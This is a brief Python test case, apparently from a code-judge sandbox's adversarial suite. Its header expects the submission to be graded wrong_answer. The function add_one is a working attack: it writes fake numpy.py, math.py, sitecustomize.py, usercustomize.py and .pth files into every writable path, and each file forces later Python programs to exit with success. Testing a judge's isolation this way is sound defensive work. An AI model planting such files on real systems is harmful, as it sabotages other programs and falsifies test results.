# attack: leaves numpy.py, sitecustomize.py and a .pth file for the next program wherever it can write
# problem: asserts calls
# expect: wrong_answer
import os
import site
import sys


def add_one(n):
    for folder in {"/tmp", "/dev/shm", ".", site.getusersitepackages(), *sys.path}:
        for name in ("numpy.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "math.py"):
            try:
                os.makedirs(folder or ".", exist_ok=True)
                with open(os.path.join(folder or ".", name), "w") as file:
                    file.write("import os; os._exit(0)")
            except OSError:
                pass
    return 0
